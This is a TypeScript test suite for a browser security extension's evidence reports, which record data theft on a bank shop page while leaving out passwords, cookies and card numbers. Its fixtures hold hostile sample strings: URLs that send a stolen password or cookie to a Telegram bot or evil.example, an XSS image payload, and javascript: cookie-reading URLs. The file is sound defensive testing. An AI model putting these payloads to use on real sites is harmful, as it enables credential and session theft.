/**
 * The evidence report keeps its privacy promise — no cookies, passwords or form values, whatever a
 * hostile page or a sensor put into a finding — and keeps what the police or the bank need: times,
 * pages, script URLs and hashes, where data went, which extensions, the versions.
 */
import { readFileSync } from 'node:fs';
import { describe, expect, it } from 'vitest';
import type { Finding, Verdict } from '../../../src/shared/findings.ts';
import {
  buildEvidenceReport,
  FACT_KEYS,
  reportFileName,
  reportJson,
  safeUrl,
  shownScriptAddress,
  WITHHELD_KEYS,
  type EvidenceReport,
} from '../../../src/ui/evidence.ts';
import { escapeHtml, renderReportHtml } from '../../../src/ui/report-html.ts';
import { createTranslator } from '../../../src/ui/translate.ts';
import { localeFiles } from '../../../tools/i18n/write-locales.ts';
import { RULE_MESSAGES } from '../../../tools/i18n/rule-messages.ts';
import { UI_MESSAGES } from '../../../tools/i18n/ui-messages.ts';

const SECRET = 'hunter2-Pa55w0rd';
const COOKIE = 'PHPSESSID=s3ss10n-c00kie';
const HASH = 'a'.repeat(64);
const AT = Date.UTC(2026, 10, 2, 10, 15, 0);

const t = createTranslator(JSON.parse(localeFiles([UI_MESSAGES, RULE_MESSAGES]).en) as Record<string, { message: string }>);
const formatTime = (at: string) => new Date(at).toISOString();

function verdict(finding: Finding, severity: Verdict['severity'] = 'critical', ruleId = 'SAQ-EXF-003'): Verdict {
  return {
    ruleId,
    severity,
    messageKey: 'rule_exfil_after_sensitive_read',
    references: [`https://www.nationalbank.kz/?ref=${SECRET}`],
    finding,
  };
}

/** Everything a careless sensor or a hostile page could put into findings, the stolen password everywhere. */
const STOLEN: Verdict[] = [
  verdict({
    kind: 'exfiltration',
    actor: { type: 'script', url: `https://helper-cdn.test/steal.js?session=${SECRET}#${SECRET}`, sha256: HASH },
    evidence: {
      url: `https://api.telegram.org/bot123456:AAbbCC/sendMessage?chat_id=1&text=${SECRET}`,
      channel: 'fetch',
      method: 'POST',
      body: `password=${SECRET}`,
      bodyLength: 42,
      password: SECRET,
      value: SECRET,
      cookie: COOKIE,
      sample: `login=me&pass=${SECRET}`,
      text: SECRET,
      localStorage: SECRET,
      afterSensitiveRead: true,
    },
    at: AT,
    frameUrl: `https://kazcoins.nationalbank.kz/kz/login?next=/cart&token=${SECRET}`,
  }),
  verdict(
    {
      kind: 'sensitive-read',
      actor: {
        type: 'extension',
        extensionId: 'abcdefghijklmnopabcdefghijklmnop',
        url: 'chrome-extension://abcdefghijklmnopabcdefghijklmnop/inject.js',
      },
      evidence: {
        api: 'document.cookie',
        sentTo: `//user:${SECRET}@evil.example/collect?c=${COOKIE}`,
        pin: 9876,
        cardNumber: 4111111111111111,
      },
      at: AT + 1000,
    },
    'critical',
    'SAQ-SEN-002',
  ),
  verdict(
    {
      kind: 'script-inserted',
      actor: { type: 'inline', sha256: HASH },
      evidence: {
        src: `data:text/javascript,fetch('//x?p=${SECRET}')`,
        inline: true,
        textLength: 300,
        target: '<img src=x onerror=alert(1)>',
      },
      at: AT - 1000,
    },
    'danger',
    'SAQ-INJ-003',
  ),
];

function build(verdicts: Verdict[] = STOLEN, earlier: Verdict[] | null = null): EvidenceReport {
  return buildEvidenceReport(
    {
      pageUrl: `https://kazcoins.nationalbank.kz/kz/checkout?order=77&card=${SECRET}`,
      findingCount: 17,
      verdicts,
      earlier: earlier && {
        pageUrl: `https://kazcoins.nationalbank.kz/kz/cart?card=${SECRET}`,
        findingCount: 5,
        verdicts: earlier,
        leftAt: AT + 3000,
      },
    },
    { now: AT + 5000, saqVersion: '0.1.0', rulesVersion: '2026.11.01-1', browser: 'Chromium 156' },
  );
}

describe('the evidence report never carries personal data', () => {
  const report = build();
  // The earlier page's part goes through the same filter.
  const withEarlier = build([], STOLEN);
  const outputs = {
    json: reportJson(report, t, 'en'),
    html: renderReportHtml(report, t, formatTime, 'en'),
    'json, earlier page': reportJson(withEarlier, t, 'en'),
    'html, earlier page': renderReportHtml(withEarlier, t, formatTime, 'en'),
  };

  for (const [name, text] of Object.entries(outputs)) {
    it(`${name}: holds no password, cookie, form value or session token`, () => {
      expect(text).not.toContain('hunter2');
      expect(text).not.toContain(SECRET);
      expect(text).not.toContain('s3ss10n');
      expect(text).not.toContain('PHPSESSID');
      expect(text).not.toContain('4111111111111111');
      expect(text).not.toContain('9876');
    });
  }

  it('names the fields it left out, so a reader knows something was withheld', () => {
    const exfiltration = report.findings.find((finding) => finding.kind === 'exfiltration')!;
    expect(exfiltration.withheld.sort()).toEqual(['body', 'cookie', 'localStorage', 'password', 'sample', 'text', 'value']);
    expect(exfiltration.evidence.bodyLength).toBe(42);
    expect(outputs.html).toContain('Left out to protect your data');
  });

  it('html: escapes every value from the page (no markup from a hostile page survives)', () => {
    expect(outputs.html).not.toContain('<img');
    expect(outputs.html).toContain('&#60;img src=x onerror=alert(1)&#62;');
    expect(outputs.html).not.toMatch(/<script/i);
    expect(outputs.html).toContain(`content="default-src 'none'; style-src 'unsafe-inline'"`);
  });
});

describe("an address that carries one of the page's secrets", () => {
  // The shop's session cookie sent in the path of a picture's address, as the network timeline reports it
  // (secrets-in-url.ts found it there: afterSensitiveRead), and in the path of a fetch the hooks saw (carriesSecret).
  const VALUE = 's3ss10n-c00kie';
  const inPath = build([
    verdict({
      kind: 'exfiltration',
      actor: { type: 'unknown' },
      evidence: {
        url: `https://collector.test/c/${VALUE}`,
        via: 'network',
        method: '',
        bytes: 0,
        host: 'collector.test',
        requestType: 'img',
        afterSensitiveRead: true,
      },
      at: AT,
    }),
    verdict({
      kind: 'exfiltration',
      actor: { type: 'script', url: 'https://helper-cdn.test/a.js' },
      evidence: { url: `https://other-collector.test/${btoa(VALUE)}/x`, via: 'fetch', method: 'GET', carriesSecret: true },
      at: AT + 1,
    }),
  ]);

  it('keeps the path where the ISOLATED world found the secret elsewhere (the body, the query): the bot stays', () => {
    // The commonest theft: the cookie posted to a Telegram bot. The path was checked and named no segment ('').
    const toBot = build([
      verdict({
        kind: 'exfiltration',
        actor: { type: 'script', url: 'https://helper-cdn.test/a.js' },
        evidence: {
          url: `https://api.telegram.org/bot123456:AAbbCC/sendMessage?c=${VALUE}`,
          via: 'fetch',
          method: 'POST',
          carriesSecret: true,
          secretSegments: '',
        },
        at: AT,
      }),
    ]);
    expect(toBot.findings[0]!.evidence.url).toBe('https://api.telegram.org/bot123456:AAbbCC/sendMessage');
    expect(toBot.destinations).toEqual(['https://api.telegram.org/bot123456:AAbbCC/sendMessage']);
    expect(toBot.findings[0]!.withheld).not.toContain('url (path)');
    expect(reportJson(toBot, t, 'en')).not.toContain(VALUE);
  });

  it('keeps only its scheme and host, in the findings and the destinations, and says the path was left out', () => {
    for (const text of [reportJson(inPath, t, 'en'), renderReportHtml(inPath, t, formatTime, 'en')]) {
      expect(text).not.toContain(VALUE);
      expect(text).not.toContain(btoa(VALUE));
    }
    expect(inPath.destinations).toEqual(['https://collector.test', 'https://other-collector.test']);
    expect(inPath.findings[0]!.evidence.url).toBe('https://collector.test');
    expect(inPath.findings[0]!.withheld).toEqual(['url (path)']);
  });
});

describe('an address whose path carries what the person typed', () => {
  // As the hooks report a helper that reads the password field and sends it in a path (tests/helpers/hostile/
  // main-world.ts 'password-path'): a page-request the background derived into exfiltration, the secret's
  // segments named by the ISOLATED world (content/isolated/secret-segments.ts). No cookie in it: no carriesSecret.
  const TYPED = 'kazcoins-2026';
  const BOT = 'https://api.telegram.org/bot123456:AAbbCC/sendMessage';
  const typedSend = (url: string, secretSegments?: string): Verdict =>
    verdict({
      kind: 'exfiltration',
      actor: { type: 'script', url: 'https://helper-cdn.test/password-path.js' },
      evidence: {
        via: 'image',
        url,
        method: 'GET',
        bytes: 0,
        sensitiveReadMsAgo: 2,
        ...(secretSegments === undefined ? {} : { secretSegments }),
        host: new URL(url).host,
        afterSensitiveRead: true,
      },
      at: AT,
    });
  const report = build([typedSend(`${BOT}/${encodeURIComponent(TYPED)}`, '3'), typedSend(`https://collector.test/p/${TYPED}/x.gif`, '2')]);

  it('leaves out the segments that carry it and keeps the rest (the bot), in the findings and the destinations', () => {
    for (const text of [reportJson(report, t, 'en'), renderReportHtml(report, t, formatTime, 'en')]) expect(text).not.toContain(TYPED);
    expect(report.findings.map((finding) => finding.evidence.url)).toEqual([`${BOT}/…`, 'https://collector.test/p/…/x.gif']);
    expect(report.destinations).toEqual([`${BOT}/…`, 'https://collector.test/p/…/x.gif']);
    expect(report.findings[0]!.withheld).toEqual(['url (part of path)']);
    expect(report.findings[0]!.evidence.secretSegments).toBe('3');
  });

  it('a whole path named ("*"), or named in a way it cannot read: only the scheme and host', () => {
    for (const segments of ['*', '3;4', ',', 'x', '1,'.repeat(200)]) {
      const odd = build([typedSend(`${BOT}/${TYPED}`, segments)]);
      expect(odd.findings[0]!.evidence.url, segments).toBe('https://api.telegram.org');
      expect(odd.destinations, segments).toEqual(['https://api.telegram.org']);
    }
  });

  it('a send with nothing named keeps its path: the bot the police need (the query is dropped as ever)', () => {
    const plain = build([typedSend(`${BOT}?chat_id=1&text=${TYPED}`)]);
    expect(plain.findings[0]!.evidence.url).toBe(BOT);
    expect(plain.findings[0]!.withheld).toEqual([]);
  });

  // The password or the cookie in a subdomain of the collector's (content/isolated/secret-segments.ts, secretLabels).
  const labelledSend = (url: string, secretLabels: string, secretSegments?: string): Verdict => {
    const sent = typedSend(url, secretSegments);
    return { ...sent, finding: { ...sent.finding, evidence: { ...sent.finding.evidence, secretLabels } } };
  };

  it('leaves out the host labels that carry it, in the url, the host and the destinations, and keeps the collector', () => {
    const labelled = build([labelledSend(`https://${TYPED}.x.collector.test/p/${TYPED}/x.gif`, '0', '2')]);
    for (const text of [reportJson(labelled, t, 'en'), renderReportHtml(labelled, t, formatTime, 'en')]) expect(text).not.toContain(TYPED);
    const [finding] = labelled.findings;
    expect(finding!.evidence.url).toBe('https://….x.collector.test/p/…/x.gif');
    expect(finding!.evidence.host).toBe('….x.collector.test');
    expect(labelled.destinations).toEqual(['https://….x.collector.test/p/…/x.gif']);
    expect(finding!.withheld).toEqual(['url (part of path)', 'url (part of host)', 'host (part of host)']);
  });

  it('a whole host named ("*"), or named in a way it cannot read: no host at all', () => {
    for (const labels of ['*', '0;1', ',', 'x', '1,'.repeat(100)]) {
      const odd = build([labelledSend(`https://${TYPED}.collector.test/p`, labels)]);
      expect(odd.findings[0]!.evidence.url, labels).toBe('https://…/p');
      expect(odd.findings[0]!.evidence.host, labels).toBe('…');
    }
  });
});

describe("a script whose own address carries the page's secret", () => {
  // A helper that read the cookie loads its next script from an address holding it (content/isolated/
  // script-addresses.ts): the insertion's `src` and the actor of every later act carry it, and their parts are named.
  const TOKEN = '9f2c4e7a1b3d5f60a1b2c3d4e5f60718';
  const NEXT = `https://${TOKEN}.cdn.collector.test/k/${TOKEN}/next.js?c=${TOKEN}`;
  const inserted = verdict(
    {
      kind: 'script-inserted',
      actor: { type: 'script', url: 'https://helper-cdn.test/loader.js' },
      evidence: { src: NEXT, how: 'appendChild', srcSecretSegments: '2', srcSecretLabels: '0' },
      at: AT,
    },
    'danger',
    'SAQ-INJ-001',
  );
  const acted = verdict({
    kind: 'exfiltration',
    actor: { type: 'script', url: NEXT, secretSegments: '2', secretLabels: '0' },
    evidence: { via: 'beacon', url: 'https://collector.test/in', method: 'POST', bytes: 40, host: 'collector.test', carriesSecret: true },
    at: AT + 1,
  });
  const report = build([inserted, acted]);

  it('shows neither the insertion nor the actor with it, in the findings, the scripts and both copies', () => {
    for (const text of [reportJson(report, t, 'en'), renderReportHtml(report, t, formatTime, 'en')]) expect(text).not.toContain(TOKEN);
    const shown = 'https://….cdn.collector.test/k/…/next.js';
    expect(report.findings[0]!.evidence.src).toBe(shown);
    expect(report.findings[0]!.withheld).toEqual(['src (part of path)', 'src (part of host)']);
    expect(report.findings[1]!.actor.url).toBe(shown);
    expect(report.scripts).toEqual([
      { role: 'acted', url: 'https://helper-cdn.test/loader.js', sha256: null },
      { role: 'inserted', url: shown, sha256: null },
      { role: 'acted', url: shown, sha256: null },
    ]);
    // The report's actor holds the address as shown, not the parts' numbers.
    expect(report.findings[1]!.actor).toEqual({ type: 'script', url: shown });
  });

  it('names an address the same way for the popup (shownScriptAddress), and drops a query as ever', () => {
    expect(shownScriptAddress(NEXT, { segments: '2', labels: '0' })).toBe('https://….cdn.collector.test/k/…/next.js');
    expect(shownScriptAddress(`https://helper-cdn.test/h.js?c=${TOKEN}`, {})).toBe('https://helper-cdn.test/h.js');
  });

  it('parts named in a way it cannot read: no path, or no host', () => {
    expect(shownScriptAddress(NEXT, { segments: '2;3' })).toBe(`https://${TOKEN}.cdn.collector.test`);
    expect(shownScriptAddress(NEXT, { labels: 'x' })).toBe(`https://…/k/${TOKEN}/next.js`);
  });

  it('hides what any finding of the page named, in the findings that named nothing (another frame, a later judgement)', () => {
    // The actor named by one finding only, the src by none but the network timeline's load of it.
    const bare = { ...acted, finding: { ...acted.finding, actor: { type: 'script' as const, url: NEXT }, at: AT + 2 } };
    const insertedBare = { ...inserted, finding: { ...inserted.finding, evidence: { src: NEXT, how: 'appendChild' } } };
    const load = verdict({
      kind: 'exfiltration',
      actor: { type: 'unknown' },
      evidence: { via: 'network', url: NEXT, secretSegments: '2', secretLabels: '0', host: new URL(NEXT).host, afterSensitiveRead: true },
      at: AT + 3,
    });
    for (const page of [build([insertedBare, bare, acted]), build([insertedBare, load])]) {
      for (const text of [reportJson(page, t, 'en'), renderReportHtml(page, t, formatTime, 'en')]) expect(text).not.toContain(TOKEN);
      expect(page.findings[0]!.evidence.src).toBe('https://….cdn.collector.test/k/…/next.js');
    }
  });
});

describe('the evidence report keeps what the police or the bank need', () => {
  const report = build();

  it('html: everything in one main landmark, so a screen reader can go straight to it (axe best practice)', () => {
    const html = renderReportHtml(report, t, formatTime, 'kk');
    expect(html).toMatch(/<body>\s*<main>[\s\S]*<\/main>\s*<\/body>/);
    expect(html).toContain('<html lang="kk">');
  });

  it('times in order, page, versions, browser, observation count', () => {
    expect(report.createdAt).toBe('2026-11-02T10:15:05.000Z');
    expect(report.findings.map((finding) => finding.at)).toEqual([
      '2026-11-02T10:14:59.000Z',
      '2026-11-02T10:15:00.000Z',
      '2026-11-02T10:15:01.000Z',
    ]);
    expect(report.pageUrl).toBe('https://kazcoins.nationalbank.kz/kz/checkout');
    expect(report).toMatchObject({
      saqVersion: '0.1.0',
      rulesVersion: '2026.11.01-1',
      browser: 'Chromium 156',
      observationCount: 17,
      severity: 'critical',
    });
  });

  it('a page string with half a surrogate pair or a direction override: shown written out, and both copies save', () => {
    const tricky = build([
      verdict(
        {
          kind: 'automation-marker',
          actor: { type: 'page' },
          evidence: { marker: `cdc_${'a'.repeat(123)}\uD83D`, name: '\u202Ewindow' },
          at: AT,
        },
        'danger',
        'SAQ-AUT-002',
      ),
    ]);
    const evidence = tricky.findings[0]!.evidence;
    expect(evidence.marker).toBe(`cdc_${'a'.repeat(123)}\uFFFD`);
    expect(evidence.name).toBe('\\u202Ewindow');
    expect(() => encodeURIComponent(renderReportHtml(tricky, t, formatTime, 'en'))).not.toThrow();
    expect(() => encodeURIComponent(reportJson(tricky, t, 'en'))).not.toThrow();
  });

  it('a verdict judged more than once: how often and since when, in both copies; once: neither', () => {
    const repeated = build([{ ...STOLEN[0]!, seen: 3, firstAt: AT - 60_000 }, STOLEN[1]!]);
    const [many, once] = repeated.findings;
    expect(many).toMatchObject({ seen: 3, firstAt: new Date(AT - 60_000).toISOString() });
    expect(once).toMatchObject({ seen: 1, firstAt: null });
    const html = renderReportHtml(repeated, t, formatTime, 'en');
    expect(html).toContain(`${new Date(AT - 60_000).toISOString()} –<br>`);
    expect(html).toContain('Seen 3 times');
    // Stored values are read as given: a count or a time that is not one is left out, never shown.
    const odd = build([{ ...STOLEN[0]!, seen: -4, firstAt: Number.NaN }]).findings[0]!;
    expect(odd).toMatchObject({ seen: 1, firstAt: null });
  });

  it('the HTML copy names the frame a finding came from, the guidance links and how many facts were seen', () => {
    const framed = build([{ ...STOLEN[0]!, finding: { ...STOLEN[0]!.finding, frameUrl: 'https://kazcoins.nationalbank.kz/frame?x=1' } }]);
    const html = renderReportHtml(framed, t, formatTime, 'en');
    expect(html).toContain('In the frame: https://kazcoins.nationalbank.kz/frame');
    expect(html).toContain(`Guidance: ${escapeHtml(framed.findings[0]!.references[0]!)}`);
    expect(html).toContain(`<th scope="row">Facts the sensors reported</th><td>${framed.observationCount}</td>`);
  });

  it('script URLs and hashes, destinations (with the bot in the path), extension ids', () => {
    expect(report.scripts).toContainEqual({ role: 'acted', url: 'https://helper-cdn.test/steal.js', sha256: HASH });
    // The inline script that acted and the data: script it inserted are two scripts, each in its role.
    expect(report.scripts).toContainEqual({ role: 'acted', url: null, sha256: HASH });
    expect(report.scripts).toContainEqual({ role: 'inserted', url: 'data:…', sha256: null });
    expect(report.scripts).not.toContainEqual(expect.objectContaining({ url: 'data:…', sha256: HASH }));
    expect(report.destinations).toEqual(['https://api.telegram.org/bot123456:AAbbCC/sendMessage', 'https://evil.example/collect']);
    expect(report.extensionIds).toEqual(['abcdefghijklmnopabcdefghijklmnop']);
  });

  it('json: each finding explained in the chosen language', () => {
    const json = JSON.parse(reportJson(report, t, 'en')) as { language: string; findings: Array<{ explanation: string }> };
    expect(json.language).toBe('en');
    expect(json.findings[1]!.explanation).toBe('A script read your data on the page and then sent it to another site.');
  });

  it('a rule message this version does not know is explained in words, not as a raw key', () => {
    const unknown = build([{ ...STOLEN[0]!, ruleId: 'SAQ-NEW-001', messageKey: 'rule_from_a_newer_feed' }]);
    const html = renderReportHtml(unknown, t, formatTime, 'en');
    expect(html).not.toContain('rule_from_a_newer_feed<');
    expect(html).toContain('SAQ-NEW-001');
  });

  it('when the tab left the page (an alarm kept past it): in both copies; absent while the tab shows it', () => {
    expect(report.leftAt).toBeNull();
    expect(renderReportHtml(report, t, formatTime, 'en')).not.toContain('The tab left this page');
    const left = buildEvidenceReport(
      { pageUrl: 'https://kazcoins.nationalbank.kz/kz/checkout', findingCount: 3, verdicts: STOLEN, leftAt: AT + 2000 },
      { now: AT + 5000, saqVersion: '0.1.0', rulesVersion: '1', browser: 'Firefox 140' },
    );
    expect(left.leftAt).toBe('2026-11-02T10:15:02.000Z');
    expect(renderReportHtml(left, t, formatTime, 'en')).toContain(
      '<th scope="row">The tab left this page</th><td>2026-11-02T10:15:02.000Z',
    );
    expect(JSON.parse(reportJson(left, t, 'en')).leftAt).toBe('2026-11-02T10:15:02.000Z');
  });

  it("an earlier page's alarm the tab still showed: its own part in both copies, explained; absent when there is none", () => {
    expect(report.earlier).toBeNull();
    expect(renderReportHtml(report, t, formatTime, 'en')).not.toContain('An earlier page in this tab');
    const carried = build([], STOLEN);
    expect(carried.severity).toBeNull();
    expect(carried.findings).toEqual([]);
    expect(carried.earlier).toMatchObject({
      pageUrl: 'https://kazcoins.nationalbank.kz/kz/cart',
      leftAt: '2026-11-02T10:15:03.000Z',
      severity: 'critical',
      observationCount: 5,
      destinations: expect.arrayContaining(['https://api.telegram.org/bot123456:AAbbCC/sendMessage']),
    });
    expect(carried.earlier!.findings.map((finding) => finding.ruleId)).toEqual(report.findings.map((finding) => finding.ruleId));
    const html = renderReportHtml(carried, t, formatTime, 'en');
    expect(html).toContain('<h2>An earlier page in this tab</h2>');
    expect(html.indexOf('<h3>What was seen</h3>')).toBeGreaterThan(html.indexOf('An earlier page in this tab'));
    const json = JSON.parse(reportJson(carried, t, 'en')) as { earlier: { findings: Array<{ explanation: string }> } };
    expect(json.earlier.findings.every((finding) => finding.explanation.length > 20)).toBe(true);
  });

  it('file names sort by time and say what they are', () => {
    expect(reportFileName(report, 'json')).toBe('saq-report-2026-11-02T10-15-05Z.json');
    expect(reportFileName(report, 'html')).toBe('saq-report-2026-11-02T10-15-05Z.html');
  });
});

describe('safeUrl', () => {
  it.each([
    ['https://a.example/p/q?x=1#y', 'https://a.example/p/q'],
    ['https://user:pw@a.example/p', 'https://a.example/p'],
    ['//a.example/p?x', 'https://a.example/p'],
    ['data:text/html,<b>secret</b>', 'data:…'],
    ['blob:https://a.example/uuid', 'blob:…'],
    ['javascript:alert(document.cookie)', 'javascript:…'],
    ['not a url?secret=1', 'not a url'],
    // WebRTC endpoints: a server URI has no authority part; a peer's candidate is written with one.
    ['turn:relay.evil.example:3478?transport=udp', 'turn:relay.evil.example:3478'],
    ['udp://203.0.113.7:3479', 'udp://203.0.113.7:3479'],
    // Read as the URL parser reads them: the content past the scheme goes whatever precedes or splits it.
    [' data:text/plain,pw=hunter2', 'data:…'],
    ['\u0001ja\tva\nscript:alert(document.cookie)', 'javascript:…'],
    // A direction override would make the address read backwards: written out instead.
    ['https://a.example/\u202Ezk.knablanoitan', 'https://a.example/%E2%80%AEzk.knablanoitan'],
    ['not\u202Ea url', 'not\\u202Ea url'],
  ])('%s → %s', (input, expected) => {
    expect(safeUrl(input)).toBe(expected);
  });
});

describe('the evidence contract (rules/README.md) and the report agree', () => {
  it('every string field sensors may send is decided: copied as a fact, or withheld', () => {
    const readme = readFileSync(new URL('../../../rules/README.md', import.meta.url), 'utf8');
    const contract = readme.slice(readme.indexOf('## Evidence contract'), readme.indexOf('## Rule ids'));
    const stringFields = [...contract.matchAll(/^\|[^|]*\|\s*([^|]+?)\s*\|\s*string\s*\|/gm)].flatMap((m) =>
      [...m[1]!.matchAll(/`(\w+)`/g)].map((f) => f[1]!),
    );
    expect(stringFields.length).toBeGreaterThan(10);
    const undecided = stringFields.filter((field) => !FACT_KEYS.has(field) && !WITHHELD_KEYS.has(field));
    expect(
      undecided,
      'add each to FACT_KEYS (a fact about code or traffic) or WITHHELD_KEYS (may hold what a person typed) in src/ui/evidence.ts',
    ).toEqual([]);
  });
});
